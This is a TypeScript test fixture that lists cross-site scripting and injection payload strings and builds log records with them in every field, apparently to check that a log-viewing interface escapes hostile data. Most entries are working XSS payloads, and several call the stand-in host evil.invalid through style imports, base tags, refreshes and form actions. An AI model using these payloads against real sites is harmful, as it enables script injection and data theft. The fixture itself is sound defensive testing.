/**
 * Texts that become code, mark-up, styles or addresses wherever a page takes data for anything but text. Each would call
 * `window.pwned`, raise a dialog or ask another origin for something.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg/onload=window.pwned=1>',
  '"><script>window.pwned=1</script>',
  "'><img src=x onerror=alert(1)>",
  '</script><script>window.pwned=1</script>',
  '</title></textarea></style><script>window.pwned=1</script>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">click</a>',
  'javascript:window.pwned=1//',
  'data:text/html,<script>parent.pwned=1</script>',
  '<style>@import "http://evil.invalid/x.css"; *{background:url(http://evil.invalid/y)}</style>',
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '<base href="http://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
  '<form action=http://evil.invalid/><button id=send>send</button></form>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<details open ontoggle=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '`;window.pwned=1;//',
  "';window.pwned=1;//",
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\u003cscript\u003ewindow.pwned=1\u003c/script\u003e',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"},"type":"div","__v":1}',
  '__proto__',
  'constructor',
  '\u001b[31mred\u001b[0m \u001b]8;;http://evil.invalid\u0007link\u001b]8;;\u0007',
  '\u202egnp.exe\u202c \u2066rtl\u2069',
  'null\u0000byte',
  'line one\r\nline two\tand a tab',
];

/** A record with hostile texts in every field that a record has, and as names of attributes. */
export function hostileRecord(index: number, text: string, timestamp: string, traceId: string): object {
  const id = `hostile-${index}-${text.replaceAll(/[^\w<>"'/=-]/g, '')}`.slice(0, 200);
  return {
    id,
    timestamp,
    level: index % 2 === 0 ? 'error' : 'warn',
    service: `hostile ${text}`.slice(0, 200),
    message: `hostile message ${text}`,
    environment: text,
    host: text,
    logger: text,
    request_id: text,
    trace_id: traceId,
    error: {
      type: text,
      message: text,
      stack: `${text}\n    at ${text} (${text}:1:1)\n    at window.pwned (x.js:2:2)`,
    },
    http: { method: text, path: `/${text}`, host: text, user_agent: text, client_ip: text, status_code: 500 },
    payment: {
      id: `pay_${text}`,
      merchant_id: text,
      amount_minor: 100,
      currency: text,
      method: text,
      status: text,
      provider: text,
    },
    attributes: { [text]: text, nested: { [text]: [text, { [text]: text }] } },
  };
}
